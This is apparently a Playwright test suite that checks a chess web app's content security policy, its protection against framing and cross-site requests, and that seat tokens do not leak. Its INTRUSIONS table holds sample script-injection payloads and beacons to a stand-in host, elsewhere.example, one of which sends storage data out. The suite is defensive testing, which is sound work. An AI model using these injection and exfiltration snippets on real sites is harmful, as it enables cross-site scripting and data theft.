// The content security policy, and the places of tokens: nothing runs in the page that was not built into it, and nothing visible, logged or linked
// contains the token of a seat.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { createGame, DESKTOP, engineReady, PHONE, Player, Server, startStage } from './fixtures.mjs';
import { comesTrue } from './wait.mjs';

/** @typedef {import('playwright-core').Page} Page */

const { server, browser } = await startStage({ log: 'trace' });

/** Records the policy violations of a page. @param {Player} player */
async function recordViolations(player) {
  /** @type {string[]} */
  const forbidden = [];
  await player.page.exposeFunction('forbade', (/** @type {string} */ what) => forbidden.push(what));
  await player.page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sample }) => {
      /** @type {any} */ (window).forbade(`${violatedDirective} ${blockedURI} ${sample}`);
    });
  });
  return forbidden;
}

/** Plays a whole game through nearly every view of the page. @param {Player} white @param {Player} black */
async function wholeGame(white, black) {
  const link = await createGame(server, white, black);
  await engineReady(white, 'g1', 'f3');
  await white.press('More');
  await white.press('Settings');
  await white.page.getByText('Dark', { exact: true }).click();
  await white.press('Close');
  await white.page.keyboard.press('?');
  await white.press('Close');
  await white.drag('e2', 'e5');
  await white.waitForAnnouncement('Illegal move.');
  await white.move('e2', 'e4');
  await black.waitForTurn('yours');
  await black.page.reload();
  await black.waitForTurn('yours');
  await black.press('Draw');
  await black.press('Offer draw');
  await white.page.getByRole('button', { name: 'Decline' }).click();
  await black.page.locator('[data-typed]').fill('e7e5');
  await black.page.keyboard.press('Enter');
  await white.waitForTurn('yours');
  await white.context.setOffline(true);
  await white.page.getByText('You are offline.').waitFor();
  await white.context.setOffline(false);
  await white.waitForTurn('yours');
  await white.press('Resign');
  await white.page.getByRole('dialog').getByRole('button', { name: 'Resign' }).click();
  await black.page.locator('.result', { hasText: 'You won: your opponent resigned.' }).waitFor();
  await black.page.getByRole('button', { name: 'First', exact: true }).click();
  await black.copy('PGN');
  await black.press('Rematch');
  await white.press('Accept rematch');
  await white.waitForTurn('theirs');
  await black.waitForTurn('yours');
  return link;
}

test('the page keeps to its own policy through a whole game', async () => {
  const [white, black] = await Promise.all([Player.open(browser, PHONE), Player.open(browser, DESKTOP)]);
  const forbidden = await Promise.all([recordViolations(white), recordViolations(black)]);
  await wholeGame(white, black);
  await black.page.goto(`${server.url}/no/such/page`);
  await black.page.getByRole('link', { name: 'Start a new game' }).waitFor();
  assert.deepEqual(forbidden, [[], []]);
  const expected = /the server responded with a status of 404|net::ERR_INTERNET_DISCONNECTED/;
  assert.deepEqual([...white.errors, ...black.errors].filter((text) => !expected.test(text)), []);
  await Promise.all([white.context.close(), black.context.close()]);
});

/**
 * What somebody who could write into the page would try. Each says what happened: what it wanted must not have. Nothing of it is done while the
 * debugger speaks, whose words no policy forbids.
 * @type {Record<string, { attempt: () => unknown, directive: string }>}
 */
const INTRUSIONS = {
  'a script in the page': {
    directive: 'require-trusted-types-for',
    attempt: () => {
      const script = document.createElement('script');
      script.textContent = 'window.intruded = true';
      document.head.append(script);
    },
  },
  'a script put together from text': {
    directive: 'require-trusted-types-for',
    attempt: () => {
      const script = document.createElement('script');
      script.append(document.createTextNode('window.intruded = true'));
      document.head.append(script);
    },
  },
  'a script from elsewhere': {
    directive: 'require-trusted-types-for',
    attempt: () => {
      const script = document.createElement('script');
      script.src = 'https://elsewhere.example/intrude.js';
      document.head.append(script);
    },
  },
  'a script as data': {
    directive: 'script-src-elem',
    attempt: () => {
      const address = 'data:text/javascript,window.intruded = true';
      return import(address);
    },
  },
  'markup with a handler': {
    directive: 'require-trusted-types-for',
    attempt: () => {
      document.body.innerHTML += '<img src="/none" onerror="window.intruded = true">';
    },
  },
  'text that is evaluated': { directive: 'require-trusted-types-for', attempt: () => (0, eval)('window.intruded = true') },
  'text that becomes a function': { directive: 'require-trusted-types-for', attempt: () => new Function('window.intruded = true')() },
  'text in a timer': {
    directive: 'require-trusted-types-for',
    attempt: () => setTimeout(/** @type {any} */ ('window.intruded = true')),
  },
  'another policy for markup': {
    directive: 'trusted-types',
    attempt: () => {
      const policy = /** @type {any} */ (window).trustedTypes.createPolicy('intruder', { createHTML: (/** @type {string} */ text) => text });
      /** @type {any} */ (window).intruded = policy !== undefined;
    },
  },
  'the framework’s policy once more': {
    directive: 'trusted-types',
    attempt: () => {
      const policy = /** @type {any} */ (window).trustedTypes.createPolicy('svelte-trusted-html', { createHTML: (/** @type {string} */ text) => text });
      /** @type {any} */ (window).intruded = policy !== undefined;
    },
  },
  'a style in the page': {
    directive: 'style-src-elem',
    attempt: () => {
      const style = document.createElement('style');
      style.textContent = 'body { outline: 7px solid red }';
      document.head.append(style);
      /** @type {any} */ (window).intruded = getComputedStyle(document.body).outlineWidth === '7px';
    },
  },
  'a style as an attribute': {
    directive: 'style-src-attr',
    attempt: () => {
      document.body.setAttribute('style', 'outline: 7px solid red');
      /** @type {any} */ (window).intruded = getComputedStyle(document.body).outlineWidth === '7px';
    },
  },
  'a picture that tells another server': {
    directive: 'img-src',
    attempt: () => {
      new Image().src = `https://elsewhere.example/?${localStorage.length}`;
    },
  },
  'a question to another server': { directive: 'connect-src', attempt: () => fetch('https://elsewhere.example/', { mode: 'no-cors' }) },
  'a socket to another server': { directive: 'connect-src', attempt: () => new WebSocket('wss://elsewhere.example/') },
  'a frame': {
    directive: 'frame-src',
    attempt: () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://elsewhere.example/';
      document.body.append(frame);
    },
  },
  'a form that goes elsewhere': {
    directive: 'form-action',
    attempt: () => {
      const form = document.createElement('form');
      form.action = 'https://elsewhere.example/';
      document.body.append(form);
      form.submit();
    },
  },
  'another base for links': {
    directive: 'base-uri',
    attempt: () => {
      const base = document.createElement('base');
      base.href = 'https://elsewhere.example/';
      document.head.append(base);
      /** @type {any} */ (window).intruded = document.baseURI.includes('elsewhere');
    },
  },
};

test('injected content does not run and sends nothing', async () => {
  const white = await Player.open(browser, DESKTOP);
  // Started by an event of the page: calls of the debugger bypass the policy.
  const attempts = Object.entries(INTRUSIONS).map(([name, { attempt }]) => `addEventListener(${JSON.stringify(`intrude: ${name}`)}, () => {
    const done = () => dispatchEvent(new Event('intruded'));
    setTimeout(() => {
      try {
        Promise.resolve((${attempt.toString()})()).then(done, done);
      } catch {
        done();
      }
    });
  });`);
  await white.page.addInitScript({ content: attempts.join('\n') });
  const forbidden = await recordViolations(white);
  await white.page.goto(server.url);
  await white.page.getByRole('button', { name: 'Create game' }).waitFor();
  /** @type {import('playwright-core').Request[]} */
  const requests = [];
  white.page.on('request', (request) => requests.push(request));
  for (const [name, { directive }] of Object.entries(INTRUSIONS)) {
    forbidden.length = 0;
    await white.page.evaluate((event) => new Promise((done) => {
      addEventListener('intruded', () => setTimeout(done, 50), { once: true });
      dispatchEvent(new Event(event));
    }), `intrude: ${name}`);
    // What is forbidden is told a little later.
    await comesTrue(async () => assert.ok(forbidden.some((what) => what.startsWith(directive)), `${name}: ${directive} forbids it, not ${forbidden.join(' | ') || 'nothing'}`));
    assert.equal(await white.page.evaluate(() => /** @type {any} */ (window).intruded === true), false, `${name} ran`);
  }
  // The page is intact, and no other server received a request.
  const there = await white.page.evaluate(() => [location.origin, document.querySelector('button[type=submit]')?.textContent?.trim()]);
  assert.deepEqual(there, [server.url, 'Create game']);
  await comesTrue(async () => {
    const asked = requests.filter((request) => !request.url().startsWith(server.url) && request.failure()?.errorText !== 'csp');
    assert.deepEqual(asked.map((request) => `${request.url()} ${request.failure()?.errorText}`), []);
  });
  await white.context.close();
});

test('another site can neither frame the page nor read from the server', async () => {
  const other = await Server.start();
  try {
    const stranger = await Player.open(browser, DESKTOP);
    // A page of another origin without any policy of its own.
    await stranger.page.route(`${other.url}/elsewhere`, (route) => route.fulfill({ contentType: 'text/html', body: '<title>Elsewhere</title>' }));
    await stranger.page.goto(`${other.url}/elsewhere`);
    const frame = await stranger.page.evaluate((url) => new Promise((done) => {
      const element = document.createElement('iframe');
      element.src = url;
      element.onload = () => done(element.contentDocument === null ? 'not to be read' : 'to be read');
      document.body.append(element);
    }), server.url);
    assert.equal(frame, 'not to be read');
    assert.equal(await stranger.page.frames()[1]?.getByRole('button').count(), 0, 'the page is not in the frame');
    for (const path of ['/api/health', '/api/rules/chess', '/', '/icon.svg']) {
      for (const mode of /** @type {const} */ (['cors', 'no-cors'])) {
        const read = await stranger.page.evaluate(([url, how]) => fetch(url ?? '', { mode: /** @type {RequestMode} */ (how) }).then(() => true, () => false), [`${server.url}${path}`, mode]);
        assert.equal(read, false, `${path}, ${mode}`);
      }
    }
    // A JSON body needs a preflight, which fails: no game is created in a visitor's name.
    const made = await stranger.page.evaluate((url) => fetch(url, {
      method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"mode":"blind","side":"white","highlightingEnabled":true}',
    }).then(() => true, () => false), `${server.url}/api/games`);
    assert.equal(made, false);
    const health = await (await server.fetch('/api/health')).json();
    const before = health.activeGames;
    await stranger.page.evaluate((url) => fetch(url, { method: 'POST', mode: 'no-cors', body: '{"mode":"blind"}' }).catch(() => undefined), `${server.url}/api/games`);
    assert.equal((await (await server.fetch('/api/health')).json()).activeGames, before);
    await stranger.context.close();
  } finally {
    await other.stop();
  }
});

test('a token is in the browser’s storage and in frames to the server, and nowhere else', async () => {
  const [white, black] = await Promise.all([Player.open(browser, DESKTOP), Player.open(browser, DESKTOP)]);
  /** Everything that others might see, read or receive. @type {string[]} */
  const seen = [];
  for (const { page } of [white, black]) {
    page.on('framenavigated', (frame) => seen.push(frame.url()));
    page.on('request', (request) => seen.push(request.url(), JSON.stringify(request.headers())));
    page.on('response', (response) => seen.push(JSON.stringify(response.headers())));
    page.on('websocket', (socket) => seen.push(socket.url()));
    page.on('console', (message) => seen.push(message.text(), JSON.stringify(message.location())));
    page.on('pageerror', (error) => seen.push(String(error.stack)));
    await page.addInitScript(() => {
      for (const name of /** @type {const} */ (['pushState', 'replaceState'])) {
        const original = history[name].bind(history);
        history[name] = (state, unused, url) => {
          console.debug(JSON.stringify(state), unused, String(url));
          original(state, unused, url);
        };
      }
    });
  }
  const tokens = async () => {
    const kept = await Promise.all([white, black].map(({ page }) => page.evaluate(() => Object.entries(localStorage))));
    return kept.flat().filter(([key]) => /^bc:[a-z0-9]{8}$/.test(key)).map(([, token]) => token);
  };
  seen.push(await wholeGame(white, black));
  for (const { page, errors } of [white, black]) {
    seen.push(...errors, page.url());
    seen.push(...(await page.evaluate(async () => [
      document.documentElement.outerHTML, document.title, document.referrer, document.cookie, location.href, JSON.stringify(history.state),
      JSON.stringify(Object.entries(sessionStorage)), JSON.stringify(performance.getEntries()), window.name, await navigator.clipboard.readText().catch(() => ''),
      ...[...document.querySelectorAll('input')].map(({ value }) => value),
    ])));
  }
  const held = await tokens();
  assert.ok(held.length >= 4, 'two players, and a rematch');
  for (const token of held) {
    assert.match(token, /^[a-z0-9]{24}$/);
    assert.deepEqual(seen.filter((text) => text.includes(token)), [], 'a token is seen');
    assert.deepEqual(server.log.filter((line) => line.includes(token)), [], 'a token is in the log');
  }
  assert.ok(server.log.some((line) => line.includes('socket open')), 'the log was read, at its finest');
  // Each player receives only their own tokens.
  for (const { received, sent } of [white, black]) {
    const own = new Set(sent.filter(({ type }) => type === 'hello').flatMap(({ token }) => token ?? []));
    for (const { token } of received) if (token) own.add(token);
    const others = held.filter((token) => !own.has(token));
    assert.ok(others.length > 0);
    for (const token of others) assert.equal(JSON.stringify(received).includes(token), false, 'the other’s token came by');
  }
  await Promise.all([white.context.close(), black.context.close()]);
});
